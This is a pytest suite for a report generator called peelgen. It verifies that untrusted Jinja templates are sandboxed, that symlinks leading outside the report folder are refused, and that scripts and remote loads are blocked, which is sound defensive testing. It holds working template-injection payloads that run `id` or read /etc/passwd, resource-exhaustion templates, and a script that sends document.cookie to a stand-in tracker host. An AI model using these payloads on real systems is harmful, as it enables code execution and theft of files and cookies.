"""Templates from a report folder are untrusted: sandboxed, read through the path policy,
their faults reported as FILE:LINE, and the page carries a policy that forbids scripts.

Each exploit is first shown to work against a plain ``jinja2.Environment`` (so the test
is about a real payload), then tried through peelgen."""

from __future__ import annotations

import contextlib
import os
import re
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path

import jinja2
import pytest
from pypdf import PdfReader

from peelgen import sandbox
from peelgen.build import compile_report
from peelgen.diagnostics import BuildFailed
from peelgen.render_html import CSP_DIRECTIVES, render_html
from tests.conftest import EXAMPLES, MINIMAL, WEST_MERCIA, example_params

COVER = "templates/partials/cover.html.j2"


def _report(tmp_path: Path) -> Path:
    """A report folder with its own (empty) templates folder; returns report.yaml."""
    folder = tmp_path / "rep"
    (folder / "templates" / "partials").mkdir(parents=True)
    (folder / "templates" / "styles").mkdir()
    report = folder / "report.yaml"
    report.write_text(MINIMAL.replace("framework: peel-2016-effectiveness\n",
                                      "framework: peel-2016-effectiveness\ntemplates: templates\n"), encoding="utf-8")
    return report


def _outputs(tmp_path: Path) -> str:
    """Every output's text (the PDF's extracted text), joined."""
    texts = []
    for path in (tmp_path / "site").glob("*") if (tmp_path / "site").exists() else ():
        if path.suffix == ".pdf":
            texts += [page.extract_text() for page in PdfReader(BytesIO(path.read_bytes())).pages]
        else:
            texts.append(path.read_text(encoding="utf-8", errors="replace"))
    return "\n".join(texts)


# -- code execution -------------------------------------------------------------------------

# (payload, what its plain-Jinja output shows). Each runs `id` or reads /etc/passwd.
PAYLOADS = {
    "cycler-globals": ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "uid="),
    "lipsum-globals": ("{{ lipsum.__globals__['os'].popen('id').read() }}", "uid="),
    "joiner-builtins": ("{{ joiner.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}", "root:"),
    "template-reference": (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}", "uid="),
    "subclasses": ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
                   "{% if c.__name__ == 'catch_warnings' %}"
                   "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}"
                   "{% endif %}{% endfor %}", "uid="),
    "attr-filter": ("{{ (''|attr('__class__')|attr('__mro__'))[1]|attr('__subclasses__')() }}", "<class"),
    "namespace-globals": ("{{ namespace.__init__.__globals__['__builtins__']['open']('/etc/passwd').read() }}",
                          "root:"),
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_ssti_payloads_run_in_plain_jinja_but_not_in_a_report(name, cli, tmp_path):
    payload, shows = PAYLOADS[name]
    assert shows in jinja2.Environment().from_string(payload).render(), "the payload itself no longer works"

    report = _report(tmp_path)
    (report.parent / COVER).write_text(f"<header class=\"cover\">\n{payload}\n</header>\n", encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1, result.err
    assert result.err_lines[0].startswith(f"rep/{COVER}:2:"), result.err
    assert "uid=" not in result.err and "root:" not in result.err
    assert "uid=" not in _outputs(tmp_path) and not (tmp_path / "site").exists()


def test_a_template_cannot_write_a_file(cli, tmp_path):
    target = tmp_path / "written-by-template"
    payload = f"{{{{ cycler.__init__.__globals__.__builtins__.open('{target}', 'w').write('x') }}}}"
    jinja2.Environment().from_string(payload).render()
    assert target.exists(), "the payload itself no longer works"
    target.unlink()

    report = _report(tmp_path)
    (report.parent / COVER).write_text(payload, encoding="utf-8")
    assert cli("build", report, "-o", "site", "--format", "html").code == 1
    assert not target.exists()


def test_dangerous_globals_are_gone_and_namespace_still_works(tmp_path):
    (tmp_path / "t.html.j2").write_text("{% set ns = namespace(n=1) %}{% set ns.n = ns.n + 1 %}{{ ns.n }}",
                                        encoding="utf-8")
    env = sandbox.Sandbox(sandbox.FolderLoader([tmp_path], [tmp_path]))
    with sandbox.page_budget():
        assert env.get_template("t.html.j2").render() == "2"
    assert {"cycler", "joiner", "lipsum"} & set(jinja2.Environment().globals) == {"cycler", "joiner", "lipsum"}
    for name in ("cycler", "joiner", "lipsum"):
        (tmp_path / "u.html.j2").write_text(f"{{{{ {name}.reset() }}}}", encoding="utf-8")
        with pytest.raises(jinja2.exceptions.SecurityError, match=f"'{name}' is not available"):
            env.get_template("u.html.j2").render()
    assert "lipsum" not in env.filters and "random" not in env.filters


# Resource payloads: each would take minutes or gigabytes without the page's limits.
LIMITS = {
    "nested-loops": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "huge-range": "{% for i in range(10**9) %}{% endfor %}",
    "string-repeat": "{{ 'x' * 10**10 }}",
    "doubling": "{% set ns = namespace(s='x' * 1000000) %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
                "{% endfor %}",
    "power": "{{ 7 ** 100000000 }}",
    "center": "{{ 'x'|center(10**9) }}",
    "percent-width": "{{ '%999999999d' % 1 }}",
    "format-width": "{{ '{:>999999999}'.format(1) }}",
    "ljust": "{{ 'x'.ljust(999999999) }}",
    "replace": "{% set s = 'x' * 100000 %}{{ s|replace('x', s) }}",
    "join": "{% set s = 'x' * 10000000 %}{{ ([s] * 1000)|join }}",
    "macro-text": "{% macro m() %}{% for i in range(100000) %}" + "A" * 100 + "{% endfor %}{% endmacro %}"
                  "{% for i in range(100000) %}{% set x = m() %}{% endfor %}",
    "include-in-loop": "{% for i in range(100000) %}{% include 'big.html.j2' %}{% endfor %}",
}


@pytest.mark.parametrize("name", LIMITS)
def test_resource_payloads_stop_at_the_page_limits(name, cli, tmp_path):
    report = _report(tmp_path)
    (report.parent / "templates" / "big.html.j2").write_text("B" * 900_000, encoding="utf-8")
    (report.parent / COVER).write_text(f"<header class=\"cover\">\n{LIMITS[name]}\n</header>\n", encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1, result.err
    assert re.match(rf"rep/{re.escape(COVER)}:2:1: not allowed in a template: ", result.err_lines[0]), result.err


def test_peelgen_templates_use_a_tenth_of_the_budget_at_most(monkeypatch):
    spent = []
    original = sandbox.page_budget

    @contextlib.contextmanager
    def recorded():
        with original() as budget:
            yield budget
            spent.append((sandbox.MAX_OPERATIONS - budget.operations, sandbox.MAX_OUTPUT_CHARS - budget.chars))

    monkeypatch.setattr("peelgen.render_html.page_budget", recorded)
    doc = compile_report(WEST_MERCIA).document
    render_html(doc, target="web")
    render_html(doc, target="print")
    assert len(spent) == 2 and all(ops > 100 and chars > 100_000 for ops, chars in spent)  # it is counted
    assert all(ops < sandbox.MAX_OPERATIONS / 10 and chars < sandbox.MAX_OUTPUT_CHARS / 10 for ops, chars in spent)


# -- reading files ------------------------------------------------------------------------------


@pytest.fixture
def canary(tmp_path: Path) -> tuple[Path, str]:
    secret = "CANARY-7f3a9c-secret"
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text(f"{secret}\n", encoding="utf-8")
    return path, secret


@pytest.mark.parametrize("link", [COVER, "templates/styles/custom.css", "templates/styles/print.css",
                                  "templates/styles/report.css"])
def test_symlink_out_of_the_folder_is_refused_and_never_read(link, canary, cli, tmp_path):
    secret_file, secret = canary
    report = _report(tmp_path)
    (report.parent / link).symlink_to(secret_file)
    result = cli("build", report, "-o", "site")
    assert result.code == 1, result.err
    assert result.err_lines[0].startswith(f"rep/{link}: "), result.err
    assert "leads outside the report's folder" in result.err_lines[0]
    assert secret not in result.err and secret not in _outputs(tmp_path)


def test_symlinked_template_folder_and_environ_are_refused(canary, cli, tmp_path, monkeypatch):
    secret_file, secret = canary
    monkeypatch.setenv("PEELGEN_TEST_TOKEN", secret)
    report = _report(tmp_path)
    (report.parent / "templates" / "partials" / "environ.html.j2").symlink_to("/proc/self/environ")
    (report.parent / "templates" / "chapters").symlink_to(secret_file.parent, target_is_directory=True)
    (report.parent / COVER).write_text('<header class="cover">\n{% include "partials/environ.html.j2" %}\n</header>\n',
                                       encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0].startswith("rep/templates/partials/environ.html.j2: template "), result.err
    assert secret not in result.err

    (report.parent / COVER).write_text('{% include "chapters/secret.txt" %}', encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0].startswith("rep/templates/chapters/secret.txt: template "), result.err
    assert "leads outside" in result.err and secret not in result.err


def test_symlinked_styles_folder_is_refused(canary, cli, tmp_path):
    secret_file, secret = canary
    report = _report(tmp_path)
    (report.parent / "templates" / "styles").rmdir()
    (report.parent / "templates" / "styles").symlink_to(secret_file.parent, target_is_directory=True)
    (secret_file.parent / "custom.css").write_text(f".x {{ content: '{secret}' }}", encoding="utf-8")
    result = cli("build", report, "-o", "site")
    assert result.code == 1
    assert result.err_lines[0].startswith("rep/templates/styles: the styles folder leads outside"), result.err
    assert secret not in _outputs(tmp_path)


def test_template_over_the_size_limit_is_refused_before_reading(cli, tmp_path):
    report = _report(tmp_path)
    (report.parent / COVER).write_text("x" * (sandbox.MAX_TEMPLATE_BYTES + 1), encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0].startswith(f"rep/{COVER}: the template is too large"), result.err


def test_template_that_is_a_fifo_is_refused(cli, tmp_path):
    report = _report(tmp_path)
    os.mkfifo(report.parent / COVER)
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0].startswith(f"rep/{COVER}: template 'cover.html.j2' is a named pipe"), \
        result.err


def test_missing_templates_folder_is_an_error(cli, write, tmp_path):
    write(MINIMAL)
    result = cli("build", "report.yaml", "-o", "site", "--format", "html", "--templates", "nowhere")
    assert result.code == 2
    assert result.err_lines == ["peelgen: error: Invalid value for '--templates': Directory 'nowhere' does not exist."]
    with pytest.raises(BuildFailed) as failure:  # and for callers of render_html
        render_html(compile_report(tmp_path / "report.yaml").document, template_dirs=[tmp_path / "nowhere"])
    assert [d.format() for d in failure.value.diagnostics] == ["nowhere: the templates folder does not exist"]


# -- located errors --------------------------------------------------------------------------

BROKEN = {
    "not-utf8": (b'<header class="cover">\n<p>caf\xe9</p>\n</header>\n',
                 f"rep/{COVER}:2:7: the template is not UTF-8 text (byte 0xe9) (save it with UTF-8 encoding)"),
    "syntax": (b'<header class="cover">\n\n{% if doc.force %}\n</header>\n',
               f"rep/{COVER}:4: template syntax error: Unexpected end of template. Jinja was looking for the "
               "following tags: 'elif' or 'else' or 'endif'. The innermost block that needs to be closed is 'if'."),
    "undefined": (b'<header class="cover">\n<p>{{ doc.force }}</p>\n<p>{{ doc.no_such_thing }}</p>\n</header>\n',
                  f"rep/{COVER}:3:1: undefined: 'peelgen.document.Document object' has no attribute "
                  "'no_such_thing' (everything a template can use is on doc (see docs/customising.md))"),
    "includes-itself": (b'<header class="cover">\n{% include "partials/cover.html.j2" %}\n</header>\n',
                        f"rep/{COVER}:2:1: a template includes, extends or calls itself without end"),
    "missing-include": (b'<header class="cover">\n\n{% include "partials/nope.html.j2" %}\n</header>\n',
                        f"rep/{COVER}:3:1: template 'partials/nope.html.j2' not found"),
    "division": (b'<header class="cover">\n{{ 1 // 0 }}\n</header>\n',
                 f"rep/{COVER}:2:1: ZeroDivisionError: integer division or modulo by zero"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_template_faults_are_located(name, cli, tmp_path):
    source, expected = BROKEN[name]
    report = _report(tmp_path)
    (report.parent / COVER).write_bytes(source)
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1, result.err
    assert result.err_lines[0].replace(":4:1:", ":4:") == expected


def test_extending_itself_is_located(cli, tmp_path):
    report = _report(tmp_path)
    (report.parent / "templates" / "base.html.j2").write_text('{% extends "base.html.j2" %}\n', encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0] == "rep/templates/base.html.j2:1:1: a template includes, extends or calls itself " \
                                  "without end"


# -- the page's policy ------------------------------------------------------------------------


class _Page(HTMLParser):
    """The CSP meta's content, script elements, and every URL the page would load."""

    LOADS = frozenset({"src", "srcset", "poster", "data", "action", "formaction", "background", "xlink:href", "href"})

    def __init__(self) -> None:
        super().__init__()
        self.csp: list[str] = []
        self.scripts = 0
        self.loads: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "content-security-policy":
            self.csp.append(values.get("content") or "")
        if tag == "script":
            self.scripts += 1
        for name, value in attrs:
            if name in self.LOADS and value:
                # An alternate link names another page (the other-language edition); nothing loads it.
                navigates = tag == "a" or (tag == "link" and values.get("rel") == "alternate")
                (self.links if navigates and name == "href" else self.loads).append(value)
            if name == "style" and value:
                self.loads += re.findall(r"url\(\s*['\"]?([^'\")]*)", value)


def _parse(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    return page


def _directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in (part.strip() for part in policy.split(";")) if d}


@pytest.mark.parametrize("example", example_params())
def test_example_pages_have_the_policy_and_load_nothing_remote(example):
    doc = compile_report(example).document
    html = render_html(doc, target="web")
    page = _parse(html)
    assert len(page.csp) == 1
    policy = _directives(page.csp[0])
    assert policy["default-src"] == ["'none'"]
    assert policy["style-src"] == ["'unsafe-inline'"]
    assert policy["img-src"] == ["data:"] and policy["font-src"] == ["data:"]
    assert "script-src" not in policy and "connect-src" not in policy
    assert html.index("Content-Security-Policy") < html.index("<style>")  # before anything that loads
    assert page.scripts == 0 and "<script" not in html.lower()
    remote = [url for url in page.loads if not url.startswith(("data:", "#"))]
    assert remote == []
    assert "@import" not in html and not re.search(r"url\(\s*['\"]?(https?:|//)", html)
    other_edition = [f"{doc.edition.slug}.html"] if doc.edition else []  # beside this page, in the output folder
    assert all(link.startswith(("#", "https://", "http://", "mailto:")) or link in other_edition
               for link in page.links)


def test_policy_text_matches_the_directives():
    html = render_html(compile_report(EXAMPLES[0]).document, target="print")
    [policy] = _parse(html).csp
    assert policy == "; ".join(CSP_DIRECTIVES)


def test_a_page_template_without_the_policy_is_refused(cli, tmp_path):
    report = _report(tmp_path)
    base = (Path(__file__).parents[1] / "templates" / "base.html.j2").read_text(encoding="utf-8")
    assert "{{ csp_meta }}" in base
    (report.parent / "templates" / "base.html.j2").write_text(
        base.replace("{{ csp_meta }}", "<script>fetch('https://example.invalid/')</script>\n{{ csp_meta }}"),
        encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0].startswith("rep/templates/base.html.j2: the page must start with"), result.err


def test_serve_allows_only_its_own_reload_script(write):
    from peelgen.commands.serve import PreviewServer

    server = PreviewServer(write(MINIMAL), port=0)
    try:
        server.rebuild()
        page = _parse(server.page.decode("utf-8"))
    finally:
        server.close()
    [policy] = page.csp
    nonce = _directives(policy)["script-src"][0]
    assert re.fullmatch(r"'nonce-[A-Za-z0-9_-]{24}'", nonce)
    assert f'<script nonce="{nonce[7:-1]}">' in server.page.decode("utf-8")
    assert page.scripts == 1 and _directives(policy)["connect-src"] == ["'self'"]


def test_model_methods_that_read_files_are_blocked(canary, cli, tmp_path):
    import warnings

    secret = canary[1]
    stolen = tmp_path / "outside" / "labels.json"
    payload = f"{{{{ doc.labels.parse_file('{stolen}').contents }}}}"
    labels = compile_report(WEST_MERCIA).document.labels
    stolen.write_text(labels.model_copy(update={"contents": secret}).model_dump_json(), encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # parse_file is deprecated, and still reads the file
        assert secret in jinja2.Environment().from_string(payload).render(doc={"labels": labels})

    report = _report(tmp_path)
    (report.parent / COVER).write_text(f"<header class=\"cover\">\n{payload}\n</header>\n", encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0] == (f"rep/{COVER}:2:1: not allowed in a template: access to attribute 'parse_file' "
                                   "of 'Labels' object is unsafe.")
    assert secret not in result.err


# -- what a template writes as HTML -------------------------------------------------------------

WRITTEN = {
    "script": ("<script>fetch('https://tracker.example/?' + document.cookie)</script>", "a <script> element"),
    "remote-image": ('<img src="https://tracker.example/pixel.gif" alt="">', "a src= that loads"),
    "event-handler": ('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="" onerror="alert(1)">',
                      "an event handler (onerror=)"),
    "refresh": ('<meta http-equiv="refresh" content="0;url=https://phish.example/">', '<meta http-equiv="refresh">'),
    "javascript-link": ('<a href="javascript:alert(1)">Read more</a>', "a link to a javascript: address"),
    "style-import": ("<style>@import url(https://tracker.example/x.css);</style>", "@import in a style"),
    "style-attribute": ('<p style="background: url(https://tracker.example/p.png)">x</p>', "a remote url() in a style"),
    "stylesheet-link": ('<link rel="stylesheet" href="https://tracker.example/x.css">', "a <link> element"),
    "iframe": ('<iframe src="https://tracker.example/"></iframe>', "an <iframe> element"),
}


@pytest.mark.parametrize("name", WRITTEN)
def test_scripts_and_remote_loads_written_by_a_template_are_refused(name, cli, tmp_path):
    markup, what = WRITTEN[name]
    report = _report(tmp_path)
    (report.parent / COVER).write_text(f'<header class="cover">\n<h1>{{{{ doc.force }}}}</h1>\n{markup}\n</header>\n',
                                       encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1, result.err
    assert result.err_lines[0].startswith(f"rep/{COVER}:3:1: the page would have {what}"), result.err
    assert not (tmp_path / "site").exists()


def test_plain_links_and_data_images_in_a_template_are_fine(cli, tmp_path):
    report = _report(tmp_path)
    (report.parent / COVER).write_text(
        '<header class="cover">\n<p><a href="https://www.justiceinspectorates.gov.uk/hmicfrs/">HMICFRS</a></p>\n'
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""><svg><use href="#x"/></svg>\n</header>\n',
        encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 0, result.err


def test_markup_hidden_from_python_html_parser_is_still_found(cli, tmp_path):
    # In a browser, <style> inside <svg> holds markup: this <script> would be an element.
    hidden = "<svg><style><script>alert(1)</script></style></svg>"
    page = _Page()
    page.feed(hidden)
    assert page.scripts == 0, "Python's parser now sees the script: the raw scan is no longer needed"
    report = _report(tmp_path)
    (report.parent / COVER).write_text(f'<header class="cover">\n\n{hidden}\n</header>\n', encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1
    assert result.err_lines[0].startswith(f"rep/{COVER}:3:1: the page would have a <script> element"), result.err


def test_serve_sandboxes_a_reports_templates_too(tmp_path):
    from peelgen.commands.serve import PreviewServer

    report = _report(tmp_path)
    payload, _ = PAYLOADS["cycler-globals"]
    (report.parent / COVER).write_text(f'<header class="cover">\n{payload}\n</header>\n', encoding="utf-8")
    server = PreviewServer(report, port=0)
    try:
        server.rebuild()
    finally:
        server.close()
    page = server.page.decode("utf-8")
    assert not server.ok
    assert "partials/cover.html.j2:2:1: not allowed in a template" in page
    assert "uid=" not in page


@pytest.mark.parametrize(("call", "message"), [
    ('{{ "plain text"|md }}', "the md filter takes a markdown field of doc, not str"),
    ("{{ render_figure('nope') }}", "render_figure: the report has no figure 'nope'"),
])
def test_misused_helpers_are_located_errors_not_internal_ones(call, message, cli, tmp_path):
    report = _report(tmp_path)
    (report.parent / COVER).write_text(f'<header class="cover">\n{call}\n</header>\n', encoding="utf-8")
    result = cli("build", report, "-o", "site", "--format", "html")
    assert result.code == 1, result.err
    assert result.err_lines[0] == f"rep/{COVER}:2:1: {message}"
